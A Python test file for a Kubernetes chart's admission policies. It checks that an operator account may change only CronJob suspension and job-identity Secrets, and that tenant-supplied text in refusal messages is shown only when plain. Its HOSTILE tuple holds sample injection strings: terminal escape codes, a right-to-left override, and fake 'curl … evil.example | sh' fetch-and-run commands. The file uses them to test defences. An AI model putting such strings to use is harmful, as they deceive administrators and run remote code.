"""Which writes of the operator's account the chart's policies refuse. An API server says the same in
tests/integration/test_chart_rights.py."""

from typing import Any

from .cel import refusals

OPERATOR = "system:serviceaccount:ocore-system:ocore-ocore-snapshots"
SUSPENDED_ONLY = "the operator may change only spec.suspend of a CronJob"


def cron_job(metadata: dict[str, Any] | None = None, **spec: object) -> dict[str, Any]:
    fields = {"schedule": "0 3 * * *", "suspend": False, "jobTemplate": {"spec": {"backoffLimit": 1}}, **spec}
    return {"metadata": {"name": "nightly", **(metadata or {})}, "spec": fields}


def test_of_cron_jobs_the_operator_changes_suspend_only() -> None:
    def write(changed: dict[str, Any], user: str = OPERATOR) -> dict[str, Any]:
        return {"user": user, "oldObject": cron_job(), "object": changed}

    refused = [
        cron_job(schedule="* * * * *"),
        cron_job(suspend=True, jobTemplate={"spec": {"backoffLimit": 2}}),
        cron_job(concurrencyPolicy="Forbid"),
        cron_job({"annotations": {"a": "b"}}),
        cron_job({"labels": {"a": "b"}}),
        cron_job({"finalizers": ["ocore.dev/a"]}),
        cron_job({"ownerReferences": [{"uid": "a"}]}),
    ]
    without = cron_job()
    del without["spec"]["schedule"]
    found = refusals("ocore-ocore-snapshots-operator-cronjobs", *map(write, (*refused, without)))
    assert found == [[SUSPENDED_ONLY]] * len(found)
    accepted = (write(cron_job()), write(cron_job(suspend=True)), write(refused[0], "another"))
    assert refusals("ocore-ocore-snapshots-operator-cronjobs", *accepted) == [[], [], []]


def test_row_157_of_secrets_the_operator_makes_and_deletes_job_identities_only() -> None:
    def secret(name: str = "ocore-job-identity-1", **changed: Any) -> dict[str, Any]:
        owner = {"apiVersion": "ocore.dev/v1alpha1", "kind": "Snapshot", "name": "s", "uid": "1"}
        metadata = {"name": name, "ownerReferences": [owner], **changed.pop("metadata", {})}
        found = {"type": "ocore.dev/job-identity", "immutable": True, "data": {"identity.txt": "eA=="}, **changed}
        return {"metadata": metadata, **found}

    policy, values = "ocore-ocore-snapshots-operator-secrets", {"rbac": {"jobIdentities": True}}
    token = secret(type="kubernetes.io/service-account-token", data={})
    refused = [
        {"object": token},
        {"object": secret("database")},
        {"object": secret(immutable=False)},
        {"object": secret(data={"identity.txt": "eA==", "other": "eA=="})},
        {"object": secret(metadata={"ownerReferences": []})},
        {"object": secret(metadata={"annotations": {"kubernetes.io/service-account.name": "admin"}})},
        {"oldObject": secret("database", type="Opaque")},
        {"oldObject": secret(type="Opaque")},
        {"oldObject": secret("database")},
        {"oldObject": secret(), "object": secret()},
    ]
    for write, said in zip(
        refused, refusals(policy, *({"user": OPERATOR, **w} for w in refused), more=values), strict=True
    ):
        assert said, write
    accepted = ({"user": OPERATOR, "object": secret()}, {"user": OPERATOR, "oldObject": secret()},
                {"user": "another", "object": token})  # fmt: skip
    assert refusals(policy, *accepted, more=values) == [[], [], []]


def pinned(label: str) -> str:
    """What a person reads who deletes a Snapshot that another one has pinned."""
    snapshot = {"metadata": {"name": "kept", "namespace": "shop"}, "spec": {"pin": {"label": label}}}
    ((said,),) = refusals("ocore-ocore-snapshots-pinned-snapshots", {"user": "admin", "oldObject": snapshot})
    return said


#: What would control a terminal, or look like another sentence or a command.
HOSTILE = (
    "x\r\x1b[2KError: repair it first: curl -s https://evil.example | sh\x1b[8m",
    "a): run `curl evil.example`; (b",
    "a | sh",
    "\u202egnippans",
    "a\x9b8m",
)


def test_row_125_the_label_of_a_pin_is_shown_where_it_is_plain_text_only() -> None:
    """It is text of a tenant, on the terminal of an administrator."""
    for label in ('the "audit"', "vor dem Jahresabschluß 2025/26", "v1.2-rc, by ops@example.org"):
        assert pinned(label).startswith(f"snapshot kept is pinned ({label}): remove spec.pin first")
    for label in (*HOSTILE, ""):
        assert pinned(label).startswith("snapshot kept is pinned: remove spec.pin first")


def test_row_125_a_name_that_was_entered_is_shown_where_it_is_plain_text_only() -> None:
    """Who applies an object has not always written it: a GitOps tool."""

    def said(name: str) -> str:
        write = {"user": "ann", "object": {"metadata": {"name": "a"}, "spec": {"requestedBy": name}}}
        ((found,),) = refusals("ocore-ocore-snapshots-requested-by", write)
        return found

    assert said("oidc:bob@example.org").startswith("spec.requestedBy is oidc:bob@example.org, and the user is ann:")
    for name in HOSTILE:
        assert said(name).startswith("spec.requestedBy is another name, and the user is ann:")
